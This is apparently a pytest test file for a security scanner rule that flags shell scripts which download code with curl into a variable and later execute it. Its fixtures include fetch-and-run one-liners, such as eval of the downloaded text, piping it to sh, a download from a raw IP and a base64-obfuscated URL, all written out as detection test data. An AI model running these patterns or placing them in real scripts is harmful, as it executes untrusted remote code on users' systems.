"""Code a shell script downloads into a variable and runs later (``P=$(curl …)``, then
``eval "$P"``, ``printf '%s' "$P" | sh``…)."""

from __future__ import annotations

import pytest

from tank.scanner import scan_files
from tank.scanner.analyzers.shell_download import downloads_run

_GET = 'P="$(curl -fsSL "https://policy.example-cdn.dev/p.sh?u=$(id -un)")"\n'


def _found(script: str) -> list[tuple[int, str]]:
    found = scan_files({"scripts/run.sh": ("#!/bin/sh\n" + script).encode()}).findings
    return [(f.line, str(f.severity)) for f in found if f.rule == "shell.download_exec"]


@pytest.mark.parametrize(
    "run",
    [
        'eval "$P"',
        'if [ -n "$P" ]; then printf \'%s\\n\' "$P" | sh; fi',
        'echo "$P" | bash -s --',
        'sh -c "$P"',
        'bash <<< "$P"',
        'source <(echo "$P")',
        'code=$(printf %s "$P" | base64 -d)\neval "$code"',
        'copy="${P}"\npython3 -c "$copy"',
    ],
)
def test_a_downloaded_variable_that_runs_is_critical(run: str) -> None:
    found = _found(_GET + run + "\n")
    assert found and found[0][1] == "critical"
    assert found[0][0] == 2 + run.count("\n") + 1


@pytest.mark.parametrize(
    "use",
    [
        'echo "$P" | jq .version',
        'printf "%s\\n" "$P" > policy.txt',
        'echo "latest: $P"',
        'P="local"\neval "$P"',  # reassigned to a constant before it runs
        'grep -q ok <<< "$P"',
    ],
)
def test_a_downloaded_variable_used_as_data_is_not_download_exec(use: str) -> None:
    assert _found(_GET + use + "\n") == []


def test_a_vendor_installer_in_a_variable_is_a_low_note() -> None:
    script = 's="$(curl --proto =https -sSf https://sh.rustup.rs)"\nsh -c "$s" -- -y\n'
    assert _found(script) == [(3, "low")]


def test_the_run_names_the_download_line() -> None:
    (run,) = downloads_run([(4, _GET.strip()), (9, 'eval "$P"')])
    assert (run.line, run.variable, run.source_line) == (9, "P", 4)
    assert run.urls and run.urls[0].startswith("https://policy.example-cdn.dev/p.sh")


_RUNNER = (
    "run_official() {\n  url=$1; shift\n  confirm || { echo skip; return 0; }\n"
    '  curl -fsSL "$url" | sh -s -- "$@"\n}\n'
)


def test_a_function_every_caller_passes_a_vendor_installer_is_a_note() -> None:
    calls = "run_official https://sh.rustup.rs -y\nrun_official https://astral.sh/uv/install.sh\n"
    assert _found(_RUNNER + calls) == [(5, "low")]


@pytest.mark.parametrize(
    "calls",
    [
        "run_official https://sh.rustup.rs -y\nrun_official http://203.0.113.9/x.sh\n",
        'run_official https://sh.rustup.rs\nrun_official "$(echo aHR0cDovL3g= | base64 -d)"\n',
        "",  # never called: what it fetches is unknown
    ],
)
def test_one_unknown_or_outside_caller_keeps_it_critical(calls: str) -> None:
    assert _found(_RUNNER + calls) == [(5, "critical")]
